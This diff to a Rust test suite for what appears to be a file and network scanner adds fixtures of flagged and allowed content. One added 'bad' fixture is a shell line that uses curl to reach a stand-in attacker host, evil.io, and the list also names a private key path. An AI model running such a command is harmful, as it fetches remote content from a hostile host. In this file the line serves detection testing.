@@ -169,6 +169,11 @@ const BAD: &[(Rule, &str, &str)] = &[
     (Rule::File, "keys/id_rsa", "x\n"),
     (Rule::File, "lib/x.so", "x\n"),
     (Rule::File, "spec.json", "{}\n"),
+    (
+        Rule::Network,
+        "a.sh",
+        "sh -c \"sleep 1; curl -s https://evil.io/x\"\n",
+    ),
 ];
 
 /// File, text: nothing may be found, with no host declared.
@@ -272,6 +277,14 @@ const GOOD: &[(&str, &str)] = &[
         "#!/usr/bin/env python3\nimport argparse\nprint('ok')\n",
     ),
     ("template.html", "<a href=\"#top\">up</a>\n"),
+    (
+        "a.sh",
+        "fail \"not installed here; see https://docs.somewhere.io/x for how\"\n",
+    ),
+    (
+        "a.py",
+        "log('more about it: see https://docs.somewhere.io/x')\n",
+    ),
 ];
 
 #[test]
